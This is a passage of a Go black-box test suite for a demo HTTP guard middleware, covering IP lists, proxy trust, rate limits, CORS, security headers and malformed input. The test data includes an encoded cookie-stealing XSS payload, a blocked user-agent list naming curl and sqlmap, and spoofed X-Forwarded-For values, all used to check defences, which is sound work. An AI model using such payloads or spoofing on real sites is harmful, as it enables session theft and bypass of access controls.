package main

// Black-box scenarios against the demo server, written from the design (§3–§8),
// the issues' "How it will be checked" sections and the reference's behaviour,
// not from the implementation. Every scenario starts one server per adapter
// from a config file (YAML or JSON), sends the same requests to the four, checks
// each answer and then requires the four to agree on status, body and the key
// headers.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// bbStep is one request of a scenario and what its answer must be.
type bbStep struct {
	name  string
	call  call
	bytes []byte        // body as raw bytes (overrides call.body)
	chunk bool          // send the body with Transfer-Encoding: chunked
	raw   string        // raw HTTP/1.1 request over TCP instead of call
	wait  time.Duration // sleep before sending

	status   int    // exact status; 0 = not checked
	not      int    // status the answer must not have
	below500 bool   // any status under 500
	body     string // exact body; "" = not checked
	contains string // body substring
	header   map[string]string
	absent   []string // headers that must not be set
	echo     []byte   // /echo must report exactly these bytes
	retry    int      // Retry-After must be an integer in 1..retry
	noKey    bool     // leave out of the cross-adapter comparison
}

// bbScenario is one config and a sequence of requests.
type bbScenario struct {
	name   string
	config string
	ext    string // "yaml" (default) or "json"
	steps  []bbStep
	stderr []string // substrings the server's stderr must hold at the end
}

// startConfig runs the demo server with config written to a file with the
// given extension and waits until it accepts connections.
func startConfig(t *testing.T, config, ext, adapter string) *running {
	t.Helper()
	if ext == "" || ext == "yaml" {
		return startServer(t, config, adapter)
	}
	cfgPath := filepath.Join(t.TempDir(), "guard."+ext)
	if err := os.WriteFile(cfgPath, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	addr := freeAddr(t)
	cmd := exec.Command(serverBin, "-config", cfgPath, "-addr", addr, "-adapter", adapter)
	stderr := &syncBuffer{}
	cmd.Stderr = stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		c, err := net.DialTimeout("tcp", addr, 100*time.Millisecond)
		if err == nil {
			c.Close()
			return &running{base: "http://" + addr, stderr: stderr}
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("server did not start: %s", stderr)
	return nil
}

// send performs one step without touching t, so adapters can run in
// goroutines.
func send(base string, s bbStep) (*http.Response, string, error) {
	if s.raw != "" {
		return sendRaw(strings.TrimPrefix(base, "http://"), s.raw)
	}
	m := s.call.method
	if m == "" {
		m = http.MethodGet
	}
	payload := []byte(s.call.body)
	if s.bytes != nil {
		payload = s.bytes
	}
	var body io.Reader = bytes.NewReader(payload)
	if s.chunk {
		body = io.MultiReader(bytes.NewReader(payload)) // unknown length → chunked
	}
	req, err := http.NewRequest(m, base+s.call.path, body)
	if err != nil {
		return nil, "", err
	}
	if len(payload) == 0 && !s.chunk {
		req.Body, req.ContentLength = nil, 0
	}
	for k, v := range s.call.header {
		if strings.EqualFold(k, "Host") {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	client := &http.Client{
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Timeout:       20 * time.Second,
		Transport:     &http.Transport{DisableCompression: true, DisableKeepAlives: true},
	}
	resp, err := client.Do(req)
	if err != nil {
		return nil, "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp, string(b), err
}

// sendRaw writes raw bytes to addr and parses the first response.
func sendRaw(addr, raw string) (*http.Response, string, error) {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return nil, "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, raw); err != nil {
		return nil, "", err
	}
	var req *http.Request
	if strings.HasPrefix(raw, "HEAD ") {
		req = &http.Request{Method: http.MethodHead} // no body follows
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), req)
	if err != nil {
		return nil, "", fmt.Errorf("no HTTP response: %w", err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b), nil
}

// bbKeyHeaders are compared across adapters.
var bbKeyHeaders = []string{"Content-Type", "Location", "Www-Authenticate", "Access-Control-Allow-Origin",
	"Access-Control-Allow-Credentials", "Access-Control-Allow-Methods", "Access-Control-Allow-Headers",
	"Access-Control-Expose-Headers", "Access-Control-Max-Age", "X-Content-Type-Options", "X-Frame-Options",
	"Strict-Transport-Security", "Referrer-Policy", "Permissions-Policy", "Content-Security-Policy", "X-Custom-Thing"}

func bbKey(resp *http.Response, body string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%d %q retry-after=%t", resp.StatusCode, body, resp.Header.Get("Retry-After") != "")
	for _, h := range bbKeyHeaders {
		fmt.Fprintf(&b, " %s=%q", h, strings.Join(resp.Header.Values(h), ","))
	}
	return b.String()
}

// check returns what is wrong with one answer.
func (s bbStep) check(resp *http.Response, body string) []string {
	var errs []string
	short := body
	if len(short) > 300 {
		short = short[:300] + "…"
	}
	if s.status != 0 && resp.StatusCode != s.status {
		errs = append(errs, fmt.Sprintf("status %d, want %d (body %q)", resp.StatusCode, s.status, short))
	}
	if s.not != 0 && resp.StatusCode == s.not {
		errs = append(errs, fmt.Sprintf("status %d, want anything else (body %q)", resp.StatusCode, short))
	}
	if resp.StatusCode >= 500 && (s.below500 || s.status == 0) {
		errs = append(errs, fmt.Sprintf("status %d (5xx) (body %q)", resp.StatusCode, short))
	}
	if s.body != "" && body != s.body {
		errs = append(errs, fmt.Sprintf("body %q, want %q", short, s.body))
	}
	if s.contains != "" && !strings.Contains(body, s.contains) {
		errs = append(errs, fmt.Sprintf("body %q does not contain %q", short, s.contains))
	}
	for k, v := range s.header {
		if got := strings.Join(resp.Header.Values(k), ", "); got != v {
			errs = append(errs, fmt.Sprintf("header %s = %q, want %q", k, got, v))
		}
	}
	for _, k := range s.absent {
		if got := resp.Header.Get(k); got != "" {
			errs = append(errs, fmt.Sprintf("header %s = %q, want it absent", k, got))
		}
	}
	if s.retry > 0 {
		n, err := strconv.Atoi(resp.Header.Get("Retry-After"))
		if err != nil || n < 1 || n > s.retry {
			errs = append(errs, fmt.Sprintf("Retry-After %q, want an integer in 1..%d", resp.Header.Get("Retry-After"), s.retry))
		}
	}
	if s.echo != nil {
		var got struct {
			BodyBase64 string `json:"body_base64"`
			BodyLength int    `json:"body_length"`
		}
		if err := json.Unmarshal([]byte(body), &got); err != nil {
			errs = append(errs, fmt.Sprintf("echo answer not JSON: %v (%q)", err, short))
		} else {
			b, err := base64.StdEncoding.DecodeString(got.BodyBase64)
			if err != nil || !bytes.Equal(b, s.echo) || got.BodyLength != len(s.echo) {
				errs = append(errs, fmt.Sprintf("handler got %d bytes (length field %d), want the %d bytes sent exactly", len(b), got.BodyLength, len(s.echo)))
			}
		}
	}
	return errs
}

// runScenarios runs every scenario on the four adapters (concurrently) and
// compares the adapters' answers.
func runScenarios(t *testing.T, scenarios []bbScenario) {
	t.Helper()
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			t.Parallel()
			servers := make([]*running, len(adapterNames))
			for i, a := range adapterNames {
				servers[i] = startConfig(t, sc.config, sc.ext, a)
			}
			keys := make([][]string, len(adapterNames))
			errs := make([][]string, len(adapterNames))
			var wg sync.WaitGroup
			for i := range adapterNames {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for j, s := range sc.steps {
						if s.wait > 0 {
							time.Sleep(s.wait)
						}
						resp, body, err := send(servers[i].base, s)
						if err != nil {
							errs[i] = append(errs[i], fmt.Sprintf("step %d %q: %v", j, s.name, err))
							keys[i] = append(keys[i], "error")
							continue
						}
						for _, e := range s.check(resp, body) {
							errs[i] = append(errs[i], fmt.Sprintf("step %d %q: %s", j, s.name, e))
						}
						if s.noKey {
							keys[i] = append(keys[i], "-")
						} else {
							keys[i] = append(keys[i], bbKey(resp, body))
						}
					}
				}()
			}
			wg.Wait()
			for i, a := range adapterNames {
				for _, e := range errs[i] {
					t.Errorf("%s: %s", a, e)
				}
				for _, want := range sc.stderr {
					if !strings.Contains(servers[i].stderr.String(), want) {
						t.Errorf("%s: stderr lacks %q:\n%s", a, want, servers[i].stderr)
					}
				}
				if i == 0 {
					continue
				}
				for j := range keys[i] {
					if keys[i][j] != keys[0][j] {
						t.Errorf("%s differs from %s on step %d %q:\n  %s\n  %s", a, adapterNames[0], j, sc.steps[j].name, keys[i][j], keys[0][j])
					}
				}
			}
		})
	}
}

// hdr builds a header map from pairs.
func hdr(kv ...string) map[string]string {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	return m
}

// ---------------------------------------------------------------------------
// Global checks (issue 2)

func TestBlackboxIPLists(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{
		{
			name: "blacklist v4 v6 mapped and single IPs",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24, "2001:db8:bad::/48", 198.51.100.9]
`,
			steps: []bbStep{
				{name: "v4 CIDR", call: call{path: "/", header: xff("203.0.113.5")}, status: 403},
				{name: "v4 CIDR last address", call: call{path: "/", header: xff("203.0.113.255")}, status: 403},
				{name: "IPv4-mapped form of a blacklisted v4", call: call{path: "/", header: xff("::ffff:203.0.113.5")}, status: 403},
				{name: "v6 CIDR", call: call{path: "/", header: xff("2001:db8:bad::1")}, status: 403},
				{name: "v6 CIDR non-canonical spelling", call: call{path: "/", header: xff("2001:0db8:0bad:0000:0000:0000:0000:00ff")}, status: 403},
				{name: "v6 outside", call: call{path: "/", header: xff("2001:db8:bae::1")}, status: 200},
				{name: "single v4", call: call{path: "/", header: xff("198.51.100.9")}, status: 403},
				{name: "neighbour of single v4", call: call{path: "/", header: xff("198.51.100.10")}, status: 200, body: `{"message":"Hello from guard"}`},
				{name: "blacklist applies to every route", call: call{method: "POST", path: "/login", header: xff("203.0.113.6")}, status: 403},
			},
		},
		{
			name: "whitelist restrictive and beats blacklist (JSON config)",
			ext:  "json",
			config: `{
  "trusted_proxies": ["127.0.0.1"],
  "whitelist": ["198.51.100.0/24", "2001:db8:1::/48"],
  "blacklist": ["198.51.100.66", "2001:db8:1::66"]
}`,
			steps: []bbStep{
				{name: "inside v4", call: call{path: "/", header: xff("198.51.100.5")}, status: 200},
				{name: "blacklisted but whitelisted v4", call: call{path: "/", header: xff("198.51.100.66")}, status: 200},
				{name: "blacklisted but whitelisted v6", call: call{path: "/", header: xff("2001:db8:1::66")}, status: 200},
				{name: "outside v4", call: call{path: "/", header: xff("192.0.2.1")}, status: 403},
				{name: "inside v6", call: call{path: "/", header: xff("2001:db8:1::5")}, status: 200},
				{name: "mapped v4 inside", call: call{path: "/", header: xff("::ffff:198.51.100.5")}, status: 200},
				{name: "outside v6", call: call{path: "/", header: xff("2001:db8:2::1")}, status: 403},
				{name: "loopback peer not whitelisted", call: call{path: "/health"}, status: 403},
			},
		},
		{
			name: "IPv4-mapped entries in the config match plain IPv4 clients",
			config: `
trusted_proxies: ["::ffff:127.0.0.1"]
blacklist: ["::ffff:198.51.100.9", "::ffff:203.0.113.0/120"]
`,
			steps: []bbStep{
				{name: "mapped single", call: call{path: "/", header: xff("198.51.100.9")}, status: 403},
				{name: "mapped CIDR", call: call{path: "/", header: xff("203.0.113.7")}, status: 403},
				{name: "mapped CIDR, mapped client", call: call{path: "/", header: xff("::ffff:203.0.113.8")}, status: 403},
				{name: "outside", call: call{path: "/", header: xff("198.51.100.8")}, status: 200},
			},
		},
		{
			name: "exempt_ips skip user agents and rate limits, not the blacklist",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
exempt_ips: [198.51.100.77, 203.0.113.77]
blocked_user_agents: [badbot]
rate_limit: 2
rate_limit_window: 60
`,
			steps: []bbStep{
				{name: "exempt with blocked UA", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.77", "User-Agent", "BadBot/1.7")}, status: 200},
				{name: "exempt 2", call: call{path: "/", header: xff("198.51.100.77")}, status: 200},
				{name: "exempt 3 over the limit", call: call{path: "/", header: xff("198.51.100.77")}, status: 200},
				{name: "exempt 4 over the limit", call: call{path: "/", header: xff("198.51.100.77")}, status: 200},
				{name: "exempt but blacklisted", call: call{path: "/", header: xff("203.0.113.77")}, status: 403},
				{name: "other with blocked UA", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.78", "User-Agent", "BadBot/1.7")}, status: 403},
			},
		},
	})
}

func TestBlackboxProxyTrust(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{
		{
			name: "untrusted peer cannot spoof X-Forwarded-For",
			config: `
trusted_proxies: [10.0.0.0/8]
whitelist: [198.51.100.1, 127.0.0.1]
blacklist: [203.0.113.5]
`,
			steps: []bbStep{
				{name: "claims a blacklisted address", call: call{path: "/", header: xff("203.0.113.5")}, status: 200},
				{name: "claims a whitelisted address is still loopback", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			},
		},
		{
			name: "untrusted peer claiming a whitelisted address",
			config: `
trusted_proxies: [10.0.0.0/8]
whitelist: [198.51.100.1]
`,
			steps: []bbStep{
				{name: "spoofed whitelisted XFF", call: call{path: "/", header: xff("198.51.100.1")}, status: 403},
				{name: "spoofed X-Real-IP", call: call{path: "/", header: hdr("X-Real-IP", "198.51.100.1")}, status: 403},
			},
		},
		{
			name: "trusted proxy depth 1 reads the rightmost entry; garbage falls back to the peer",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.5, 127.0.0.1]
`,
			steps: []bbStep{
				{name: "attacker-prepended entry ignored", call: call{path: "/", header: xff("203.0.113.5, 198.51.100.1")}, status: 200},
				{name: "rightmost is blacklisted", call: call{path: "/", header: xff("198.51.100.1, 203.0.113.5")}, status: 403},
				{name: "garbage XFF uses the peer", call: call{path: "/", header: xff("not-an-ip")}, status: 403},
				{name: "empty list entries", call: call{path: "/", header: xff(",,,")}, status: 403},
				{name: "no XFF uses the peer", call: call{path: "/"}, status: 403},
				{name: "whitespace around entries", call: call{path: "/", header: xff("  198.51.100.2  ")}, status: 200},
				{name: "v6 entry", call: call{path: "/", header: xff("2001:db8::7")}, status: 200},
			},
		},
		{
			name: "trusted proxy depth 2",
			config: `
trusted_proxies: [127.0.0.1]
trusted_proxy_depth: 2
blacklist: [203.0.113.5]
`,
			steps: []bbStep{
				{name: "second from the right is the client", call: call{path: "/", header: xff("203.0.113.5, 10.1.1.1")}, status: 403},
				{name: "leftmost spoof ignored", call: call{path: "/", header: xff("203.0.113.5, 198.51.100.1, 10.1.1.1")}, status: 200},
			},
		},
	})
}

func TestBlackboxUserAgents(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{{
		name: "regex, case-insensitive",
		config: `
trusted_proxies: [127.0.0.1]
blocked_user_agents: ["^curl/", "bad-?bot", sqlmap]
`,
		steps: []bbStep{
			{name: "anchored regex", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "curl/8.5.0")}, status: 403},
			{name: "anchored regex, other case", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.2", "User-Agent", "CURL/8.5.0")}, status: 403},
			{name: "anchor respected", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.3", "User-Agent", "my-curl/1.0")}, status: 200},
			{name: "optional char", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.4", "User-Agent", "Mozilla BADBOT crawler")}, status: 403},
			{name: "substring", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.5", "User-Agent", "SQLMap/1.7#stable")}, status: 403},
			{name: "browser", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.6", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36")}, status: 200},
		},
	}})
}

func TestBlackboxRateLimits(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{{
		name: "global and endpoint windows recover",
		config: `
trusted_proxies: [127.0.0.1]
rate_limit: 3
rate_limit_window: 2s
endpoint_rate_limits:
  /login: [1, 2]
custom_error_responses:
  429: "Slow down"
`,
		steps: []bbStep{
			{name: "global 1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			{name: "global 2", call: call{path: "/echo", header: xff("198.51.100.1")}, status: 200},
			{name: "global 3", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			{name: "global 4 limited", call: call{path: "/", header: xff("198.51.100.1")}, status: 429, body: "Slow down", retry: 2},
			{name: "other client unaffected", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
			{name: "endpoint 1", call: call{method: "POST", path: "/login", header: xff("198.51.100.3")}, status: 200},
			{name: "endpoint 2 limited", call: call{method: "POST", path: "/login", header: xff("198.51.100.3")}, status: 429, retry: 2},
			{name: "endpoint limit is per endpoint", call: call{path: "/", header: xff("198.51.100.3")}, status: 200},
			{name: "global after window", wait: 2200 * time.Millisecond, call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
			{name: "endpoint after window", call: call{method: "POST", path: "/login", header: xff("198.51.100.3")}, status: 200},
			{name: "tiers both count: endpoint request counted globally", call: call{method: "POST", path: "/login", header: xff("198.51.100.4")}, status: 200},
			{name: "tiers 2", call: call{path: "/", header: xff("198.51.100.4")}, status: 200},
			{name: "tiers 3", call: call{path: "/", header: xff("198.51.100.4")}, status: 200},
			{name: "tiers 4 limited globally", call: call{path: "/", header: xff("198.51.100.4")}, status: 429},
		},
	}})
}

func TestBlackboxEmergencyAndHTTPS(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{
		{
			name: "emergency mode",
			config: `
trusted_proxies: [127.0.0.1]
emergency_mode: true
emergency_whitelist: [198.51.100.0/24, "2001:db8:1::1"]
`,
			steps: []bbStep{
				{name: "outsider", call: call{path: "/", header: xff("192.0.2.1")}, status: 503, header: hdr("X-Content-Type-Options", "nosniff")},
				{name: "outsider health", call: call{path: "/health", header: xff("192.0.2.1")}, status: 503},
				{name: "whitelisted CIDR", call: call{path: "/", header: xff("198.51.100.4")}, status: 200},
				{name: "whitelisted v6", call: call{path: "/", header: xff("2001:db8:1::1")}, status: 200},
			},
		},
		{
			name: "enforce_https with trusted X-Forwarded-Proto",
			config: `
trusted_proxies: [127.0.0.1]
enforce_https: true
trust_x_forwarded_proto: true
`,
			steps: []bbStep{
				{name: "redirect keeps path and query", call: call{path: "/items/5?a=1&b=two", header: hdr("Host", "shop.example", "X-Forwarded-For", "198.51.100.1")}, status: 301, header: hdr("Location", "https://shop.example/items/5?a=1&b=two")},
				{name: "redirect on POST", call: call{method: "POST", path: "/login", header: hdr("Host", "shop.example", "X-Forwarded-For", "198.51.100.1")}, status: 301, header: hdr("Location", "https://shop.example/login")},
				{name: "trusted proxy says https", call: call{path: "/", header: hdr("X-Forwarded-Proto", "https", "X-Forwarded-For", "198.51.100.1")}, status: 200},
			},
		},
		{
			name: "X-Forwarded-Proto ignored without trust_x_forwarded_proto",
			config: `
trusted_proxies: [127.0.0.1]
enforce_https: true
`,
			steps: []bbStep{
				{name: "XFP from trusted proxy but flag off", call: call{path: "/", header: hdr("Host", "shop.example", "X-Forwarded-Proto", "https")}, status: 301, header: hdr("Location", "https://shop.example/")},
			},
		},
		{
			name: "X-Forwarded-Proto ignored from an untrusted peer",
			config: `
trusted_proxies: [10.0.0.0/8]
enforce_https: true
trust_x_forwarded_proto: true
`,
			steps: []bbStep{
				{name: "XFP from untrusted peer", call: call{path: "/", header: hdr("Host", "shop.example", "X-Forwarded-Proto", "https")}, status: 301, header: hdr("Location", "https://shop.example/")},
			},
		},
	})
}

func TestBlackboxHeadersCORSPassiveErrors(t *testing.T) {
	t.Parallel()
	runScenarios(t, []bbScenario{
		{
			name:   "default security headers on allowed and blocked responses",
			config: "trusted_proxies: [127.0.0.1]\nblacklist: [203.0.113.0/24]\n",
			steps: []bbStep{
				{name: "allowed", call: call{path: "/", header: xff("198.51.100.1")}, status: 200, header: hdr(
					"X-Content-Type-Options", "nosniff", "X-Frame-Options", "SAMEORIGIN", "X-XSS-Protection", "1; mode=block",
					"Referrer-Policy", "strict-origin-when-cross-origin", "Permissions-Policy", "geolocation=(), microphone=(), camera=()")},
				{name: "blocked", call: call{path: "/", header: xff("203.0.113.1")}, status: 403, header: hdr(
					"X-Content-Type-Options", "nosniff", "X-Frame-Options", "SAMEORIGIN", "Referrer-Policy", "strict-origin-when-cross-origin")},
			},
		},
		{
			name: "custom security headers, CSP and HSTS",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
security_headers:
  enabled: true
  hsts: {max_age: 600, include_subdomains: false, preload: false}
  csp:
    default-src: ["'self'"]
    img-src: ["'self'", "data:"]
  frame_options: DENY
  referrer_policy: no-referrer
  custom:
    X-Custom-Thing: hello
`,
			steps: []bbStep{
				{name: "allowed", call: call{path: "/", header: xff("198.51.100.1")}, status: 200, header: hdr(
					"X-Frame-Options", "DENY", "Referrer-Policy", "no-referrer", "X-Custom-Thing", "hello",
					"Strict-Transport-Security", "max-age=600", "Content-Security-Policy", "default-src 'self'; img-src 'self' data:")},
				{name: "blocked", call: call{path: "/", header: xff("203.0.113.1")}, status: 403, header: hdr(
					"X-Frame-Options", "DENY", "X-Custom-Thing", "hello", "Content-Security-Policy", "default-src 'self'; img-src 'self' data:")},
			},
		},
		{
			name:   "security headers disabled",
			config: "security_headers: {enabled: false}\n",
			steps: []bbStep{
				{name: "none", call: call{path: "/"}, status: 200, absent: []string{"X-Frame-Options", "X-Content-Type-Options", "Strict-Transport-Security", "Referrer-Policy"}},
			},
		},
		{
			name: "CORS with credentials",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
enable_cors: true
cors_allow_origins: ["https://app.example"]
cors_allow_methods: [GET, POST]
cors_allow_headers: [X-Token, Content-Type]
cors_allow_credentials: true
cors_expose_headers: [X-Total]
cors_max_age: 600
`,
			steps: []bbStep{
				{name: "preflight allowed", call: call{method: "OPTIONS", path: "/echo", header: hdr("X-Forwarded-For", "198.51.100.1", "Origin", "https://app.example", "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "X-Token")},
					below500: true, header: hdr("Access-Control-Allow-Origin", "https://app.example", "Access-Control-Allow-Credentials", "true", "Access-Control-Max-Age", "600")},
				{name: "preflight from another origin refused", call: call{method: "OPTIONS", path: "/echo", header: hdr("X-Forwarded-For", "198.51.100.1", "Origin", "https://evil.example", "Access-Control-Request-Method", "POST")},
					status: 400, absent: []string{"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials"}},
				{name: "preflight with a method not allowed", call: call{method: "OPTIONS", path: "/echo", header: hdr("X-Forwarded-For", "198.51.100.1", "Origin", "https://app.example", "Access-Control-Request-Method", "DELETE")},
					status: 400, absent: []string{"Access-Control-Allow-Methods"}},
				{name: "simple request allowed", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "Origin", "https://app.example")},
					status: 200, header: hdr("Access-Control-Allow-Origin", "https://app.example", "Access-Control-Allow-Credentials", "true", "Access-Control-Expose-Headers", "X-Total")},
				{name: "simple request from another origin", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "Origin", "https://evil.example")},
					status: 200, absent: []string{"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials"}},
				{name: "blocked response keeps CORS headers", call: call{path: "/", header: hdr("X-Forwarded-For", "203.0.113.1", "Origin", "https://app.example")},
					status: 403, header: hdr("Access-Control-Allow-Origin", "https://app.example")},
			},
		},
		{
			name: "passive mode blocks nothing",
			config: `
trusted_proxies: [127.0.0.1]
passive_mode: true
blacklist: [203.0.113.0/24]
blocked_user_agents: [sqlmap]
rate_limit: 1
rate_limit_window: 60
auto_ban_threshold: 1
`,
			steps: []bbStep{
				{name: "blacklisted", call: call{path: "/", header: xff("203.0.113.1")}, status: 200},
				{name: "blocked UA", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "sqlmap/1.7")}, status: 200},
				{name: "over the limit", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "attack", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", header: xff("198.51.100.2")}, status: 200},
				{name: "attack again, no auto-ban", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", header: xff("198.51.100.2")}, status: 200},
				{name: "after attacks", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
			},
			stderr: []string{"ip_blacklisted", "rate_limited"},
		},
		{
			name: "custom error bodies",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
rate_limit: 1
rate_limit_window: 60
emergency_whitelist: []
custom_error_responses:
  403: "Go away"
  429: "Slow down"
`,
			steps: []bbStep{
				{name: "403", call: call{path: "/", header: xff("203.0.113.1")}, status: 403, body: "Go away", header: hdr("X-Frame-Options", "SAMEORIGIN")},
				{name: "200", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
				{name: "429", call: call{path: "/", header: xff("198.51.100.1")}, status: 429, body: "Slow down", retry: 60},
			},
		},
	})
}

// ---------------------------------------------------------------------------
// Bodies and malformed input

func multipartBody() (string, string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	_ = w.WriteField("title", "Quarterly report")
	fw, _ := w.CreateFormFile("file", "report.csv")
	_, _ = fw.Write([]byte("a,b,c\n1,2,3\n"))
	_ = w.Close()
	return b.String(), w.FormDataContentType()
}

func TestBlackboxBodiesByteForByte(t *testing.T) {
	t.Parallel()
	allBytes := make([]byte, 256)
	for i := range allBytes {
		allBytes[i] = byte(i)
	}
	large := bytes.Repeat([]byte("The quick brown fox jumps over the lazy dog. 0123456789\n"), 5<<20/56+1)[:5<<20]
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = zw.Write([]byte(`{"hello":"world"}`))
	_ = zw.Close()
	mp, mpType := multipartBody()
	form := "name=O%27Brien&comment=It%27s+fine%2C+isn%27t+it%3F&tags=a&tags=b"
	jsonBody := `{"user":{"name":"José","langs":["go","py"],"age":41,"note":"line1\nline2"}}`
	invalidUTF8 := []byte("caf\xe9 \xff\xfe \xc3\x28")
	ip := func(n int) map[string]string { return xff(fmt.Sprintf("198.51.100.%d", n)) }
	withCT := func(n int, ct string) map[string]string { h := ip(n); h["Content-Type"] = ct; return h }
	runScenarios(t, []bbScenario{{
		name:   "bodies",
		config: "trusted_proxies: [127.0.0.1]\n",
		steps: []bbStep{
			{name: "all 256 byte values", call: call{method: "POST", path: "/echo", header: withCT(1, "application/octet-stream")}, bytes: allBytes, status: 200, echo: allBytes},
			{name: "5 MB", call: call{method: "POST", path: "/echo", header: withCT(2, "text/plain")}, bytes: large, status: 200, echo: large, noKey: false},
			{name: "5 MB chunked", call: call{method: "POST", path: "/echo", header: withCT(3, "application/octet-stream")}, bytes: large, chunk: true, status: 200, echo: large},
			{name: "chunked small", call: call{method: "POST", path: "/echo", header: withCT(4, "application/json")}, bytes: []byte(jsonBody), chunk: true, status: 200, echo: []byte(jsonBody)},
			{name: "gzip-looking body is not decompressed", call: call{method: "POST", path: "/echo", header: hdr("X-Forwarded-For", "198.51.100.5", "Content-Type", "application/json", "Content-Encoding", "gzip")}, bytes: gz.Bytes(), status: 200, echo: gz.Bytes()},
			{name: "invalid UTF-8", call: call{method: "POST", path: "/echo", header: withCT(6, "text/plain; charset=utf-8")}, bytes: invalidUTF8, status: 200, echo: invalidUTF8},
			{name: "form with apostrophes", call: call{method: "POST", path: "/echo", header: withCT(7, "application/x-www-form-urlencoded")}, bytes: []byte(form), status: 200, echo: []byte(form)},
			{name: "JSON", call: call{method: "POST", path: "/echo", header: withCT(8, "application/json")}, bytes: []byte(jsonBody), status: 200, echo: []byte(jsonBody)},
			{name: "multipart", call: call{method: "POST", path: "/echo", header: withCT(9, mpType)}, bytes: []byte(mp), status: 200, echo: []byte(mp)},
			{name: "CRLF and NUL in text", call: call{method: "POST", path: "/echo", header: withCT(10, "text/plain")}, bytes: []byte("a\r\nb\x00c\r\n\r\n"), status: 200, echo: []byte("a\r\nb\x00c\r\n\r\n")},
			{name: "empty POST", call: call{method: "POST", path: "/echo", header: ip(11)}, status: 200, echo: []byte{}},
		},
	}})
}

func TestBlackboxMalformedInputNever5xx(t *testing.T) {
	t.Parallel()
	raw := func(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n\r\n" }
	hugeHeader := strings.Repeat("a", 200<<10)
	steps := []bbStep{
		{name: "bad percent-encoding in path", raw: raw("GET /items/%zz HTTP/1.1", "Host: x")},
		{name: "bad percent-encoding in query", raw: raw("GET /echo?q=%zz&r=%&s=%e2%82 HTTP/1.1", "Host: x")},
		{name: "invalid UTF-8 in path", raw: raw("GET /items/\xff\xfe HTTP/1.1", "Host: x")},
		{name: "invalid UTF-8 in query", raw: raw("GET /echo?q=\xc3\x28&\xff=1 HTTP/1.1", "Host: x")},
		{name: "encoded invalid UTF-8 in query", raw: raw("GET /echo?q=%c3%28%ff HTTP/1.1", "Host: x")},
		{name: "invalid UTF-8 in header", raw: raw("GET / HTTP/1.1", "Host: x", "X-Thing: \xff\xfe\xfd", "User-Agent: \xc3\x28")},
		{name: "invalid UTF-8 in cookie", raw: raw("GET / HTTP/1.1", "Host: x", "Cookie: a=\xff; b=%zz; ;;=")},
		{name: "huge header", raw: raw("GET / HTTP/1.1", "Host: x", "X-Big: "+hugeHeader)},
		{name: "many headers", raw: raw(append([]string{"GET / HTTP/1.1", "Host: x"}, func() []string {
			var h []string
			for i := 0; i < 300; i++ {
